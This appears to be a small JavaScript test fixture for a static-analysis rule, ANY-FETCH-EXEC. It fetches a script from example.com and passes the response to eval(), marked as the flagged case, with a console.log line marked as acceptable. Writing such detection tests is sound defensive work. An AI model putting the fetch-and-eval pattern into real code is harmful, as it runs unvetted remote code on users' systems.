async function main() {
  const answer = await fetch("http://example.com/p.js");
  // ruleid: ANY-FETCH-EXEC
  eval(await answer.text());
  // ok: ANY-FETCH-EXEC
  console.log(await answer.text());
}
main();
